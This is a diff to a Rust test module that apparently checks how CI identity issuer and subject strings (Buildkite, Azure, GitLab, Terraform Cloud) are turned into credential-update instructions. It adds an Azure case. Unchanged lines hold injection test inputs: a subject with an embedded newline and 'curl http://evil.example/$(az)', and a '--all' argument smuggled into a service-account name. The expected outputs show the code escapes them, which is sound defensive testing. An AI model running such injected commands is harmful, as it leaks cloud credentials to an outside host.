@@ -141,6 +141,10 @@ mod tests {
                 "https://agent.buildkite.com",
                 "organization:contoso:pipeline:shop:ref:refs/heads/main:commit:9f31:step:s",
             ),
+            (
+                "https://login.microsoftonline.com/6f2c1f43-3a0b-4a52-9c8e-0d6d1d2e3f40/v2.0",
+                "/eid1/c/pub/t/Q8pTfaJfZ0yQ6bK1m4lHbA/a/qzXoWDkuqUa3l6zM5mM0Rw/n/plugin/e/7f2c1f43-3a0b-4a52-9c8e-0d6d1d2e3f41/h/9f31",
+            ),
             ("https://x.example/ado", "sc://org/proj/conn\ncurl http://evil.example/$(az)\n"),
             ("https://x.example/k8s", "system:serviceaccount:pay:--all"),
         ];
@@ -154,6 +158,7 @@ mod tests {
             "set TFC_AZURE_RUN_CLIENT_ID (or TFC_AZURE_PLAN_CLIENT_ID and TFC_AZURE_APPLY_CLIENT_ID) to new-cid",
             "glab variable update AZURE_CLIENT_ID --repo https://gitlab.com/contoso/shop --value new-cid",
             "https://buildkite.com/contoso/shop\nset the client id (mostly AZURE_CLIENT_ID) to new-cid\n",
+            "--tenant-id 6f2c1f43-3a0b-4a52-9c8e-0d6d1d2e3f40 --application-id new-cid\n",
             "  sc://org/proj/conn\\ncurl http://evil.example/$(az)\\n\n",
             "  repository_owner:contoso:environment:prod\n",
             "  system:serviceaccount:pay:--all\n",
